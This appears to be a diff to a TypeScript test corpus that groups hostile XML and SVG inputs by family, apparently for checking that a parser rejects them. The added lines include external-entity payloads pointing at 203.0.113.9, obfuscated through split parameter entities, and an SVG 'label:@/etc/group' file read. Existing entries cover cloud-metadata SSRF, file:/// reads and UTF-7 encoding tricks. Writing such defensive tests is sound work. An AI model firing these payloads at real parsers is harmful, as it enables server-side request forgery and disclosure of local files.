@@ -22,6 +22,8 @@ const FAMILIES: Readonly<Record<string, readonly string[]>> = {
     '<!DOCTYPE o [<!ENTITY % d SYSTEM "http://203.0.113.9/d.dtd"> %d;]><o/>',
     '<!DOCTYPE o [%elsewhere;]><o/>',
     '<!DOCTYPE o [<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % c "x"> %l;]><o/>',
+    '<!DOCTYPE o [<!ENTITY % a "<!EN"><!ENTITY % b "TITY c SYSTEM \'//203.0.113.9/x\'>">%a;%b;]><o>&c;</o>',
+    '<!DOCTYPE o [<!ENTITY % a "SYSTEM \'http://203.0.113.9/x\'"><!ENTITY c %a;>]><o>&c;</o>',
   ],
   'document types of strangers': [
     '<!DOCTYPE o PUBLIC "-//O//O" "http://203.0.113.9/o.dtd"><o/>',
@@ -64,6 +66,7 @@ const FAMILIES: Readonly<Record<string, readonly string[]>> = {
   drawings: [
     '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/latest/meta-data/"/></svg>',
     '<svg xmlns="http://www.w3.org/2000/svg"><use href="../../../../etc/group#a"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><image href="label:@/etc/group"/></svg>',
     '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(file:///etc/group);</style></svg>',
   ],
   'keys and templates from elsewhere': [
@@ -81,7 +84,10 @@ const FAMILIES: Readonly<Record<string, readonly string[]>> = {
     '<!DOCTYPE o [',
     '<!DOCTYPE o SYSTEM "',
   ],
-  'markup inside of an entity': ['<!DOCTYPE o [<!ENTITY e "&#60;b>x&#60;/b>">]><o>&e;</o>'],
+  'markup inside of an entity': [
+    '<!DOCTYPE o [<!ENTITY e "&#60;b>x&#60;/b>">]><o>&e;</o>',
+    '<!DOCTYPE o [<!ELEMENT o (p)><!ELEMENT p (#PCDATA)><!ENTITY e "&#60;b>x&#60;/b>">]><o><p>&e;</p></o>',
+  ],
   'encodings that hide': [
     '<?xml version="1.0" encoding="UTF-7"?>+ADw-o+AD4-',
     '<?xml version="1.0" encoding="IBM037"?>Lo',
